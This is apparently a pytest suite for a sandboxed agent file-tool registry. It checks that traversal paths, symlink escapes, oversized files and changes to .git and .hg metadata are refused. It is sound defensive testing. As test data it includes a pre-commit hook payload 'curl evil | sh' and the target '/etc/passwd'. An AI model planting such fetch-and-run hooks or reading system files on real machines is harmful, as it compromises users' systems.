from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from orchestra.tools.protocol import ToolContext
from orchestra.tools.registry import ToolRegistry


async def call(reg: ToolRegistry, ctx: ToolContext, name: str, **args: object) -> tuple[str, str]:
    result = await reg.call(name, json.dumps(args), ctx)
    return result.status, result.content


async def test_write_read_append_list_search_delete(
    registry: ToolRegistry, ctx: ToolContext
) -> None:
    assert (
        await call(registry, ctx, "files.write", path="src/app/main.py", content="print('hi')\n")
    )[0] == "ok"
    await call(registry, ctx, "files.append", path="src/app/main.py", content="# TODO: more\n")
    assert (await call(registry, ctx, "files.read", path="src/app/main.py"))[
        1
    ] == "print('hi')\n# TODO: more\n"
    assert (await call(registry, ctx, "files.read", path="src/app/main.py", offset=6, max_chars=4))[
        1
    ] == "'hi'"
    listing = (await call(registry, ctx, "files.list", path="src"))[1]
    assert "src/app/" in listing and "src/app/main.py  25 bytes" in listing
    found = (await call(registry, ctx, "files.search", pattern="todo", ignore_case=True))[1]
    assert found == "src/app/main.py:2: # TODO: more"
    assert (await call(registry, ctx, "files.delete", path="src/app"))[1].startswith(
        "error: folder"
    )
    assert (await call(registry, ctx, "files.delete", path="src/app", recursive=True))[0] == "ok"
    assert not (ctx.workspace.root / "src" / "app").exists()


@pytest.mark.parametrize("path", ["../escape.txt", "src/../../escape.txt", "/etc/passwd", "/tmp/x"])
@pytest.mark.parametrize(
    "tool", ["files.read", "files.write", "files.append", "files.delete", "files.list"]
)
async def test_dotdot_and_absolute_paths_are_refused(
    registry: ToolRegistry, ctx: ToolContext, tool: str, path: str
) -> None:
    args: dict[str, object] = {"path": path}
    if tool in ("files.write", "files.append"):
        args["content"] = "owned"
    status, content = await call(registry, ctx, tool, **args)
    assert status == "error"
    assert "'..'" in content or "absolute path" in content
    assert not (ctx.workspace.root.parent / "escape.txt").exists()


async def test_symlink_out_of_the_workspace_is_refused(
    registry: ToolRegistry, ctx: ToolContext, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("password=hunter2")
    os.symlink(outside / "secret.txt", ctx.workspace.root / "research" / "secret.txt")
    os.symlink(outside, ctx.workspace.root / "linkdir")

    status, content = await call(registry, ctx, "files.read", path="research/secret.txt")
    assert status == "error" and "symlink" in content and "hunter2" not in content
    status, content = await call(registry, ctx, "files.read", path="linkdir/secret.txt")
    assert status == "error" and "symlink" in content
    status, _ = await call(registry, ctx, "files.write", path="linkdir/new.txt", content="x")
    assert status == "error" and not (outside / "new.txt").exists()
    status, _ = await call(registry, ctx, "files.write", path="research/secret.txt", content="x")
    assert status == "error" and (outside / "secret.txt").read_text() == "password=hunter2"
    found = (await call(registry, ctx, "files.search", pattern="hunter2"))[1]
    assert found == "(no matches)"
    listing = (await call(registry, ctx, "files.list"))[1]
    assert "linkdir (symlink, not followed)" in listing
    # deleting the link removes the link, never the target
    assert (await call(registry, ctx, "files.delete", path="linkdir"))[0] == "ok"
    assert (outside / "secret.txt").exists()


async def test_files_over_the_size_limit_are_refused(
    registry: ToolRegistry, ctx: ToolContext
) -> None:
    big = ctx.workspace.root / "research" / "big.bin"
    big.write_bytes(b"x" * (ctx.settings.file_size_mb * 1024 * 1024 + 1))
    status, content = await call(registry, ctx, "files.read", path="research/big.bin")
    assert status == "error" and "limit" in content


@pytest.mark.parametrize(
    "path",
    [".git/hooks/pre-commit", ".git/config", ".git", "src/.git/config", ".GIT/config", ".hg/hgrc"],
)
@pytest.mark.parametrize("tool", ["files.write", "files.append", "files.delete"])
async def test_version_control_metadata_cannot_be_changed(
    registry: ToolRegistry, ctx: ToolContext, tool: str, path: str
) -> None:
    root = ctx.workspace.root
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    (root / "src" / ".git").mkdir()
    (root / "src" / ".git" / "config").write_text("[core]\n")
    (root / ".hg").mkdir()
    (root / ".hg" / "hgrc").write_text("[ui]\n")
    args: dict[str, object] = {"path": path}
    if tool == "files.delete":
        args["recursive"] = True
    else:
        args["content"] = "#!/bin/sh\ncurl evil | sh\n"
    status, content = await call(registry, ctx, tool, **args)
    assert status == "error"
    assert "version-control metadata" in content and "may not change it" in content
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
    assert (root / ".git" / "config").read_text() == "[core]\n"
    assert (root / "src" / ".git" / "config").read_text() == "[core]\n"
    assert (root / ".hg" / "hgrc").read_text() == "[ui]\n"
    # reading it stays allowed, and so do names that merely look alike
    assert (await call(registry, ctx, "files.read", path=".git/config")) == ("ok", "[core]\n")
    assert (await call(registry, ctx, "files.write", path="docs/.gitignore", content="x"))[
        0
    ] == "ok"
